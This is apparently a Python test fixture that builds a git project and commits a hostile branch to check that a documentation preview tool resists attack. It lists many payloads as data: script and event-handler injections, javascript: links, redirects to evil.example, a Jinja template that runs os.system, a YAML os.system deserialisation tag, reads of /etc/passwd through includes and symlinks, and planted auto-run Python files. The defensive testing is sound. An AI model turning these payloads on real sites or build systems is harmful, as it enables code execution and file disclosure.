"""A project, and a stranger's change to it that tries everything: programs, settings, templates, links and hostile pages."""

import os
import shutil
import subprocess
import sys
from pathlib import Path

from tests.places import MILL, ROOT

PROGRAM = "import pathlib\npathlib.Path({ran!r}).write_text(__file__)\n"
PLAIN_PAGE = "# Guide\n\n## First steps\n\nWrite.\n"
API_PAGE = "# API\n\n::: build_scripts.review.words\n"
HEADED = "\n\nThe end of the page.\n"

PAGES = {
    "script": "<script>document.title = 'attacked'</script>",
    "script of the site": '<td><script src="../evil.txt" x="',
    "handler": "<img src=x onerror=\"document.title = 'attacked'\">",
    "handler in braces": "Words\n{: onmouseover=\"document.title = 'attacked'\" style=position:fixed;inset:0 }",
    "heading in braces": "## Words {#__config onclick=\"document.title = 'attacked'\"}",
    "braces of a cross-reference": '[a][build_scripts.load.load]{ onclick="alert(1)" style="position:fixed;inset:0" }',
    "fence in braces": '``` {#__search .md-overlay onclick="alert(1)"}\nx\n```',
    "refresh": '<td><meta http-equiv="refresh" content="0;url=\'https://evil.example/\'',
    "refresh after an odd comment": "<!--><meta http-equiv=refresh content=\"0;url='https://evil.example/'\">-->",
    "refresh after another": "<!-- x --!><meta http-equiv=refresh content=\"0;url='https://evil.example/'\"> -->",
    "refresh twice named": '<meta http-equiv="refresh" http-equiv="x" content="0;url=https://evil.example/">',
    "refresh in a text area": "<textarea><!--</textarea><meta http-equiv=refresh content='0;url=https://evil.example/'>-->",
    "rest of the page": '<td><img src="https://evil.example/?',
    "mark in a text area": "<textarea hidden>",
    "comment to the end": "<!-- ",
    "style": "<style>.preview-mark { display: none }</style>",
    "class of the theme": '<div class="md-overlay md-dialog" popover id="__config">{}</div>',
    "frame": '<iframe srcdoc="<script>parent.document.title = 1</script>"></iframe>',
    "link": "[x](javascript:document.title='attacked') [y](java&#10;script:alert(1)) <javascript:alert(1)>",
    "reference": "[x][y]\n\n[y]: javascript:alert(1)",
    "picture": "![x](https://evil.example/x.png) ![y](//evil.example/y.png) ![z](data:image/png;base64,x)",
    "module": "::: docs.evil\n    options:\n      force_inspection: true",
    "module in HTML": "<td/>::: docs.evil\n    options:\n      force_inspection: true",
    "module in a list": "- ::: docs.evil\n      options:\n        force_inspection: true",
    "title": "# &lt;/title>&lt;script>document.title = 'attacked'&lt;/script>",
    "snippet": '--8<-- "/etc/passwd"\n\n{{ config }} {% include "/etc/passwd" %}',
    "odd declaration": "<td><![i](x.png)<form>",
    "odder declaration": "<![a](b)",
    "oddest declaration": "<![CDATX[ x",
    "address that is none": "[x](http://[)",
}
"""Pages that a stranger may write, by what they try."""

SETTINGS = (
    "template: evil.html",
    "title: '</title><script>document.title = 1</script>'",
    "title: 'x\" onmouseover=\"alert(1)'\ndescription: '0;url=https://evil.example/\" http-equiv=\"refresh'",
    "title: !!python/object/apply:os.system [id]",
    "title: !!bool x",
    "hide: [banner]",
)


class Project:
    """A project in git, at *root*, checked out at its main branch: the mill's brief and the site's settings, no program.

    A project that is there already is taken as it is.
    """

    def __init__(self, root: Path, ran: Path) -> None:
        self.root = root
        self.ran = ran
        """The file that a program of the change writes if it is run."""
        if root.exists():
            return
        root.mkdir(parents=True)
        self.git("init", "--quiet", "--initial-branch=main")
        shutil.copytree(MILL, root / "source")
        for name in ("mkdocs.yml", "build_scripts/settings.yml"):
            (root / name).parent.mkdir(exist_ok=True)
            shutil.copyfile(ROOT / name, root / name)
        self.write("docs/guide.md", PLAIN_PAGE)
        self.write("docs/reference/api.md", API_PAGE)
        self.commit("Begin")

    def preview(self, *arguments: str) -> subprocess.CompletedProcess[str]:
        """Run ``brief preview`` here, where a module of the change would be found first if any were looked for."""
        command = [sys.executable, "-m", "build_scripts", "preview", *arguments]
        variables = {**os.environ, "PYTHONPATH": str(ROOT), "PYTHONSAFEPATH": "1"}
        return subprocess.run(command, cwd=self.root, env=variables, check=False, capture_output=True, text=True)

    def git(self, *arguments: str) -> str:
        name = ["-c", "user.name=A writer", "-c", "user.email=writer@example.org", "-c", "commit.gpgsign=false"]
        command = ["git", "-C", str(self.root), *name, *arguments]
        return subprocess.run(command, check=True, capture_output=True, text=True).stdout.strip()

    def write(self, name: str, text: str) -> None:
        path = self.root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")

    def link(self, name: str, target: str) -> None:
        path = self.root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(target)

    def commit(self, subject: str) -> str:
        self.git("add", "--all", "--force")
        self.git("commit", "--quiet", "--allow-empty", "--message", subject)
        return self.git("rev-parse", "HEAD")

    def change(self, branch: str = "change") -> None:
        """Begin a branch, and check it out."""
        self.git("checkout", "--quiet", "-b", branch)

    def back(self) -> None:
        """Check out the main branch again."""
        self.git("checkout", "--quiet", "main")

    def attack(self) -> str:
        """Commit a hostile change on a branch, go back to main, and return the commit."""
        self.change()
        program = PROGRAM.format(ran=str(self.ran))
        for name in (
            "build_scripts/__init__.py",
            "build_scripts/__main__.py",
            "build_scripts/theme/evil.py",
            "docs/evil.py",
            "docs/__init__.py",
            "source.py",
            "markdown.py",
            "mkdocs.py",
            "noxfile.py",
            "sitecustomize.py",
            "evil_hook.py",
            "conftest.py",
        ):
            self.write(name, program)
        template = f"{{% set x = cycler.__init__.__globals__.os.system('touch {self.ran}') %}}<h1>evil template</h1>"
        for name in ("main.html", "partials/preview.html", "partials/policy.html", "404.html"):
            self.write(f"build_scripts/theme/{name}", template)
        self.write("build_scripts/templates/brief.md.jinja", template)
        settings = f"INHERIT: ../../etc/passwd\nhooks: [evil_hook.py]\ndocs_dir: /etc\ntheme: {{name: null, custom_dir: {os.sep}}}\n"
        self.write("mkdocs.yml", settings)
        self.write(".gitattributes", "* filter=evil\ndocs/** export-ignore\n")
        self.write("docs/evil.txt", "document.title = 'attacked'")
        self.write("docs/evil.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
        self.write("docs/evil.html", "<script>alert(1)</script>")
        self.write("docs/assets/brief.js", "document.title = 'attacked'")
        self.write("docs/index.md", "# Another first page\n")
        self.write("docs/changes.markdown", "# Nothing changed\n")
        self.write("docs/sources.md/page.md", "# In the way\n")
        (self.root / "docs" / "dot.png").write_bytes(b"\x89PNG\r\n\x1a\n")
        for number, (name, page) in enumerate(PAGES.items()):
            self.write(f"docs/attacks/page-{number}.md", f"# Attack: {name}\n\n{page}{HEADED}")
            self.write(f"docs/attacks/last-{number}.md", f"# Attack: {name}\n\n{page}")
        for number, setting in enumerate(SETTINGS):
            self.write(f"docs/attacks/settings-{number}.md", f"---\n{setting}\n---\n\n# Settings\n{HEADED}")
        self.link("docs/passwd.md", "/etc/passwd")
        self.link("docs/outside", "/etc")
        commit = self.commit("Attack")
        self.back()
        return commit
